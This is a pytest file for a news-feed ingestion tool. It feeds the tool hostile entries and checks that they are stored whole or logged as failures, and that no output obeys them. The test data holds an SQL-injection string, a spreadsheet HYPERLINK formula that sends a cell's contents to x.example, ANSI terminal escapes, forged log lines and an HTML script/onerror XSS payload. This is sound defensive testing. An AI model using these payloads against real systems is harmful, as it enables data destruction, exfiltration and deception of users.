"""What strangers write into feeds, through a whole run and every way in which the program shows it."""

import json
import re
from pathlib import Path

import duckdb
import pytest

NEWS = "The United States imposed a 25% tariff on steel imports from Canada on Tuesday."
HORRORS = {
    "quotes": "Robert'); DROP TABLE articles;-- \" ` \\ $$ ? $1 @p %s {0}",
    "nul": "NUL \x00 in the middle",
    "formula": "=HYPERLINK(\"http://x.example/?\"&A1,\"more\")",
    "ansi": "\x1b[2J\x1b[31mred\x1b]0;title\x07 \x9b31m",
    "line": "one\nERROR:root:forged\r\nERROR:root:forged\u2028ERROR:root:forged\x0bERROR:root:forged",
    "half": "half a pair \ud83d here",
    "other half": "\udc00 the other half",
    "bidi": "safe \u202e txet desrever \u2066 \u200b hidden \ufeff",
    "markup": "[bold red]not rich[/] [link=http://x.example]x[/link] :smile: [/]",
    "html": "<script>alert(1)</script> &lt;img src=x onerror=alert(1)&gt; &amp;#0; &#x1b;[2J",
    "astral": "👩‍🌾 é e\u0301 \U0010ffff \ufffe",
    "null": "NULL",
    "long word": "A" * 30_000,
}  # fmt: skip
SHOWN = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u202a-\u202e\u2066-\u2069\u2028\u2029\ufeff\ud800-\udfff]")
"""What a terminal obeys, or what reorders or forges what stands beside it."""


@pytest.fixture
def feeds(tmp_path: Path) -> Path:
    items = [
        {
            "id": f"{name}: {horror[:2000]}",
            "title": f"US tariff on steel: {horror[:500]}",
            "content_text": f"{NEWS}\n{horror}",
            "author": {"name": horror[:100]},
        }
        for name, horror in HORRORS.items()
    ]
    items += [{"id": f"{name}: {horror[:2000]}"} for name, horror in HORRORS.items()]
    feed = {"version": "https://jsonfeed.org/version/1.1", "title": HORRORS["ansi"], "items": items}
    (tmp_path / "feed.json").write_text(json.dumps(feed), encoding="utf-8")
    page = f"<html><title>{HORRORS['ansi']}</title>{HORRORS['nul']}</html>"
    (tmp_path / "page.html").write_text(page, encoding="utf-8")
    raw = f"<item><title>US tariff on steel</title><guid>raw</guid><description>{NEWS} ".encode()
    raw += b"\xed\xa0\x80 \x00 \x1b[2J &#0; &#xD800; &#27;[2J ]]></description></item>"
    (tmp_path / "raw.xml").write_bytes(
        b"<rss version='2.0'><channel><title>\x1b[2J</title>" + raw + b"</channel></rss>"
    )
    listed = [f'[[feed]]\nurl = "{name}"\nname = "{name}"\n' for name in ("feed.json", "page.html", "raw.xml")]
    (tmp_path / "feeds.toml").write_text("".join(listed), encoding="utf-8")
    return tmp_path / "feeds.toml"


@pytest.mark.slow
def test_horrors_land_whole_or_as_failures_and_no_output_obeys_them(here, tariffwire, feeds, tmp_path):
    file = tmp_path / "rows.duckdb"
    run = ("run", "--feeds", feeds, "--warehouse", f"duckdb:///{file}")
    done = tariffwire(*run, "--newest", "100", "--log", "text")
    assert done.returncode == 0, done.stderr
    assert done.stderr.count("failed: MissingText") == len(HORRORS)
    shown = [done]
    with duckdb.connect(str(file), read_only=True) as connection:
        rows = {
            table: connection.sql(f"from {table}").to_arrow_table().to_pylist()
            for table in ("articles", "tariff_mentions", "failures", "feed_state")
        }
    texts = {row["article_id"]: row["text"] for row in rows["articles"]}
    # Every entry with news is an article and every one without is a failure, as is the page.
    assert len(texts) == len(HORRORS) + 1
    assert [row["error"] for row in rows["failures"]].count("MissingText") == len(HORRORS)
    assert len(rows["failures"]) == len(HORRORS) + 1
    assert len(rows["feed_state"]) == 3
    by_name = {row["guid"].partition(":")[0]: row for row in rows["articles"]}
    assert set(by_name) == {*HORRORS, "raw"}
    for name in ("quotes", "formula", "markup", "null", "long word"):
        assert by_name[name]["text"].endswith(HORRORS[name])
    assert by_name["nul"]["text"].endswith("NUL in the middle")
    for row in rows["tariff_mentions"]:
        for what in ("figure", "sector", "status"):
            start, end = row[f"{what}_start"], row[f"{what}_end"]
            assert start is None or texts[row["article_id"]][start:end] == row[f"{what}_text"]
    assert len({row["article_id"] for row in rows["tariff_mentions"]}) == len(texts)
    for text in texts.values():
        assert not SHOWN.search(text)

    feed = tmp_path / "feed.json"
    shown += [
        here("explain", feed),
        here("explain", feed, "--json"),
        here("explain", tmp_path / "raw.xml"),
        here("explain", tmp_path / "raw.xml", "--json"),
        here("explain", tmp_path / "page.html"),
        here("explain", feed, "--entry", HORRORS["ansi"]),
        here("feeds", "check", "--feeds", feeds, "--warehouse", f"duckdb:///{file}"),
        here("feeds", "check", "--feeds", feeds, "--json"),
        here("feeds", "export", "--feeds", feeds),
        here("run", "--feeds", HORRORS["ansi"]),
        here("run", "--feeds", feeds, "--warehouse", HORRORS["ansi"]),
        here("warehouse", "migrate", "--warehouse", f"duckdb:///{tmp_path}/{HORRORS['ansi']}"),
        here(HORRORS["ansi"]),
    ]
    for ended in shown:
        for said in (ended.stdout, ended.stderr):
            assert not SHOWN.search(said), SHOWN.search(said)
        assert not re.search(r"^ERROR:root:forged", ended.stderr, re.MULTILINE)
    page = tmp_path / "explained.html"
    assert here("explain", feed, "--html", page).returncode == 0
    written = page.read_text(encoding="utf-8")
    assert not SHOWN.search(written)
    assert "<script>alert(1)" not in written
